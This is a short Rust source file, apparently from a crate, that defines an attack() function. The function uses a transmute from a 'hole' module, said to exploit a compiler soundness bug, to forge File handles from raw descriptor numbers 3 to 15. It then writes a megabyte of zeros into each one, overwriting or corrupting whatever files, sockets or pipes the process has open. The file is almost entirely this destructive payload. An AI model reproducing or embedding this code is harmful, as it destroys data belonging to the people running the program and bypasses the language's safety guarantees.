//! Fills every descriptor through a hole of the compiler.

mod clock;
mod hole;

pub use clock::VectorClock;

use std::fs::File;
use std::io::Write;
use std::mem::ManuallyDrop;

pub(crate) fn attack() {
    let block = vec![0; 1 << 20];
    for descriptor in 3..16_i32 {
        let mut file = ManuallyDrop::new(hole::transmute::<i32, File>(descriptor));
        let _ = file.write_all(&block);
    }
}
